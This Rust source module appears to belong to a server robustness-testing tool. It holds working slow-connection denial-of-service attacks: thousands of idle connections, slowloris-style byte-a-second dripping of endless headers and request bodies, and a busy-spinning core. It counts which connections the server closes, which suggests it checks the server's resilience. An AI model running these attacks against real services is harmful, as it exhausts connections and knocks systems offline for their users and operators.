//! Attacks by connections that send next to nothing.

use std::hint::spin_loop;
use std::time::Duration;

use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;
use tokio::net::tcp::OwnedWriteHalf;
use tokio::task::JoinSet;
use tokio::time::{Instant, interval, sleep_until, timeout_at};

use super::attacker::{AttackTarget, Outcome};
use crate::arguments::ServerUrl;
use crate::fault::Fault;
use crate::stream::connect;

pub(super) const IDLE_CONNECTIONS: u32 = 2_000;
const DRIPPING_CONNECTIONS: u32 = 500;
/// Time between two bytes of a dripping connection.
const DRIP_INTERVAL: Duration = Duration::from_secs(1);

/// Opens this number of idle connections, half of them to each API, and holds them.
pub(super) async fn send_nothing(target: &AttackTarget<'_>, count: u32) -> Result<Outcome, Fault> {
    let end = target.start().await?;
    let mut outcome = Outcome::default();
    let mut tasks = JoinSet::new();
    for number in 0..count {
        let url = either_api(target, number);
        match timeout_at(end, connect(url)).await {
            Ok(Ok(mut socket)) => {
                tasks.spawn(async move {
                    // The server sends nothing, so a read ends only with the connection.
                    timeout_at(end, socket.read(&mut [0; 1024])).await.is_ok()
                });
            }
            Ok(Err(_)) | Err(_) => outcome.add("not connected", 1),
        }
    }
    sleep_until(end).await;
    while let Some(is_closed) = tasks.join_next().await {
        let is_closed = is_closed.expect("no attacker panics");
        outcome.add(if is_closed { "closed" } else { "open" }, 1);
    }
    Ok(outcome)
}

/// Sends a byte a second on each connection: endless headers on half of the connections, bodies on the other half.
pub(super) async fn drip(target: &AttackTarget<'_>) -> Result<Outcome, Fault> {
    let end = target.start().await?;
    let began = Instant::now();
    let mut outcome = Outcome::default();
    let mut tasks = JoinSet::new();
    for number in 0..DRIPPING_CONNECTIONS {
        let start = if number % 2 == 0 {
            "GET /livez HTTP/1.1\r\nhost: localhost\r\nx-drip: "
        } else {
            "POST /v1/completions HTTP/1.1\r\nhost: localhost\r\n\
             content-type: application/json\r\ncontent-length: 60000\r\n\r\n\""
        };
        match connect(&target.http).await {
            Ok(socket) => {
                tasks.spawn(timeout_at(end, drip_until_closed(socket, start)));
            }
            Err(_) => outcome.add("not connected", 1),
        }
    }
    let mut last = began;
    while let Some(ended) = tasks.join_next().await {
        match ended.expect("no attacker panics") {
            Ok(()) => {
                last = Instant::now();
                outcome.add("closed", 1);
            }
            Err(_) => outcome.not_ended += 1,
        }
    }
    outcome.add(
        "seconds until the last was closed",
        (last - began).as_secs(),
    );
    Ok(outcome)
}

async fn drip_until_closed(socket: TcpStream, start: &'static str) {
    let (mut reading, writing) = socket.into_split();
    let read = async {
        let mut piece = [0; 1024];
        while let Ok(1..) = reading.read(&mut piece).await {}
    };
    tokio::select! {
        () = read => {}
        () = drip_bytes(writing, start) => {}
    }
}

async fn drip_bytes(mut writing: OwnedWriteHalf, start: &str) {
    let mut seconds = interval(DRIP_INTERVAL);
    if writing.write_all(start.as_bytes()).await.is_err() {
        return;
    }
    loop {
        seconds.tick().await;
        if writing.write_all(b"a").await.is_err() {
            return;
        }
    }
}

/// Keeps one core busy until the end, without any request.
pub(super) async fn keep_core_busy(target: &AttackTarget<'_>) -> Result<Outcome, Fault> {
    let end = target.start().await?;
    while Instant::now() < end {
        spin_loop();
    }
    Ok(Outcome::default())
}

fn either_api<'a>(target: &'a AttackTarget<'_>, number: u32) -> &'a ServerUrl {
    if number.is_multiple_of(2) {
        &target.http
    } else {
        &target.grpc
    }
}
